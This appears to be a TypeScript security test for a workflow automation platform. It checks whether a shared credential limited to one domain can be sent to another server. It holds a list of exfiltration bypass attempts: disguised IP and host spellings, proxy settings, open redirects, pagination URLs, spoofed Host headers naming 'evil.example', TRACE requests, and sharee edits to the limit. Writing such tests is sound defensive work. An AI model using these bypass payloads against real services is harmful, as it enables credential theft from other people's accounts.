// A member uses shared credentials that are limited to one service, and tries to have them sent to a server of their own.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Sketch } from '../faults/workflows.ts';
import { Tally, type Attack } from './attack.ts';
import { activate, fan, lastExecution } from './runs.ts';
import type { Person, Target } from './target.ts';

const SECRET = 'limited-secret-4711';
const encoded = Buffer.from(`ann:${SECRET}`).toString('base64');
const isSecret = (text: string): boolean => text.includes(SECRET) || text.includes(encoded);

interface Listener {
  readonly port: number;
  /** Everything that arrived, also through tunnels. */
  readonly received: string[];
  close(): void;
}

async function listener(): Promise<Listener> {
  const received: string[] = [];
  const server: Server = createServer((request, response) => {
    const to = new URL(request.url ?? '/', 'http://service').searchParams.get('to');
    let body = '';
    request.setEncoding('utf8').on('data', (part: string) => (body += part));
    request.on('end', () => {
      received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
      response.writeHead(to === null ? 200 : 307, to === null ? { 'content-type': 'application/json' } : { location: to });
      response.end(JSON.stringify({ next: to ?? '' }));
    });
  });
  server.on('connect', (request, socket) => {
    received.push(`CONNECT ${request.url} ${JSON.stringify(request.headers)}`);
    socket.on('error', () => undefined).on('data', (part: Buffer) => received.push(part.toString('latin1')));
    socket.write('HTTP/1.1 200 OK\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const close = (): void => {
    server.closeAllConnections();
    server.close();
  };
  return { port, received, close };
}

const types: Readonly<Record<string, object>> = {
  httpHeaderAuth: { name: 'X-Key', value: SECRET },
  httpQueryAuth: { name: 'key', value: SECRET },
  httpBasicAuth: { user: 'ann', password: SECRET },
  httpBearerAuth: { token: SECRET },
  httpCustomAuth: { json: JSON.stringify({ headers: { 'X-Key': SECRET }, body: { key: SECRET }, qs: { key: SECRET } }) },
};

interface Try {
  readonly url: string;
  readonly options?: object;
  readonly headers?: Readonly<Record<string, string>>;
  readonly method?: string;
}

/** `own`: the credential's service. `foreign`: the member's server, on another port of the same computer and under other names. */
function tries(own: string, foreign: number): readonly Try[] {
  const service = `http://${own}/`;
  const elsewhere = [`127.0.0.1:${foreign}`, `localhost:${foreign}`, `[::ffff:127.0.0.1]:${foreign}`, `2130706433:${foreign}`];
  const spellings = [`${own}@localhost:${foreign}`, `127.0.0.1.:${foreign}`, `${own}\\@127.0.0.1:${foreign}`, `①②⑦.⓪.⓪.①:${foreign}`];
  const everywhere = { sendCredentialsOnCrossOriginRedirect: true };
  const proxies = [`http://127.0.0.1:${foreign}`, `127.0.0.1:${foreign}`, `HTTP://x:y@127.0.0.1:${foreign}`];
  return [
    ...[...elsewhere, ...spellings].map((host) => ({ url: `http://${host}/` })),
    ...proxies.flatMap((proxy) => [
      { url: service, options: { proxy } },
      { url: service, options: { proxy, ...everywhere } },
      { url: `https://${own}/`, options: { proxy, allowUnauthorizedCerts: true } },
      { url: `https://${own}/`, options: { proxy } },
    ]),
    ...elsewhere.flatMap((host) => [
      { url: `${service}?to=${encodeURIComponent(`http://${host}/`)}`, options: everywhere },
      { url: `${service}?to=${encodeURIComponent(`http://${host}/`)}` },
      { url: `${service}?to=${encodeURIComponent(`//${host}/`)}`, options: everywhere, method: 'POST' },
      {
        url: `${service}?page=1`,
        options: {
          pagination: {
            pagination: {
              paginationMode: 'responseContainsNextURL',
              nextURL: `http://${host}/`,
              paginationCompleteWhen: 'other',
              completeExpression: '={{ $pageCount > 2 }}',
              limitPagesFetched: true,
              maxRequests: 2,
            },
          },
        },
      },
    ]),
    ...['evil.example', `${own}@evil.example`, 'evil.example:80@127.0.0.1', 'evil.example#127.0.0.1'].map((host) => ({
      url: service,
      headers: { Host: host },
    })),
    { url: service, method: 'TRACE' },
    { url: service, method: 'trace' },
  ];
}

const request = (type: string, { url, options = {}, headers, method = 'GET' }: Try): Sketch => ({
  type: 'httpRequest',
  typeVersion: 4.2,
  parameters: {
    url,
    method: `=${method}`,
    authentication: 'genericCredentialType',
    genericAuthType: type,
    options: { timeout: 3000, ...options },
    ...(headers === undefined
      ? {}
      : { sendHeaders: true, headerParameters: { parameters: Object.entries(headers).map(([name, value]) => ({ name, value })) } }),
  },
});

/** Runs nodes that all have this credential; returns the execution as text. */
async function run({ url }: Target, person: Person, name: string, nodes: readonly Sketch[], credential: object): Promise<string> {
  const workflow = fan(name, nodes) as { nodes: readonly object[] };
  const id = await activate(person, { ...workflow, nodes: workflow.nodes.map((node) => ({ ...node, credentials: credential })) });
  await fetch(`${url}webhook/${name}`, { method: 'POST' });
  const execution = JSON.stringify(await lastExecution(person, id));
  await person.data('DELETE', `workflows/${id}`);
  return execution;
}

export const credentialLimits: Attack = {
  area: 'Limits of credentials',
  run: async (target) => {
    const tally = new Tally();
    const { owner, member } = target;
    const [service, thief] = [await listener(), await listener()];
    const own = `127.0.0.1:${service.port}`;
    try {
      for (const [type, data] of Object.entries(types)) {
        const limits = { allowedHttpRequestDomains: 'domains', allowedDomains: own };
        const body = { name: `Limited ${type}`, type, data: { ...data, ...limits } };
        const { id } = await owner.data<{ id: string }>('POST', 'credentials', body);
        await owner.data('PUT', `credentials/${id}/share`, { shareWithIds: [member.id] });
        const credential = { [type]: { id, name: body.name } };
        await run(target, member, `allowed-${type}`, [request(type, { url: `http://${own}/`, method: 'POST' })], credential);
        if (!service.received.some(isSecret)) throw new Error(`The credential of the type ${type} was not sent to its own service.`);
        for (const [index, attempt] of tries(own, thief.port).entries()) {
          const [before, atService] = [thief.received.length, service.received.length];
          await run(target, member, `limited-${type}-${index}`, [request(type, attempt)], credential);
          const stolen = thief.received.slice(before);
          // Opening a tunnel counts as a failure: the proxy decides where it leads.
          const isPrevented = !stolen.some((text) => isSecret(text) || text.startsWith('CONNECT'));
          tally.check(isPrevented, `A limited credential went elsewhere: ${stolen.join(' | ')}`, `${type} ${JSON.stringify(attempt)}`);
          const misled = service.received.slice(atService).filter((text) => text.includes('evil.example') || /^trace/i.test(text));
          tally.check(!misled.some(isSecret), `It went to another host of its service: ${misled[0]}`, `${type} ${JSON.stringify(attempt)}`);
        }
        for (const change of [{ data: { ...data, ...limits, allowedHttpRequestDomains: 'all' } }, { data: { allowNodeProxies: true } }]) {
          const call = { method: 'PATCH', path: `/rest/credentials/${id}`, body: change };
          const { status } = await member.send(call);
          tally.check(status === 403 || status === 404, `A sharee changed the limit: ${status}`, target.curl(call));
        }
      }
    } finally {
      service.close();
      thief.close();
    }
    return tally;
  },
};
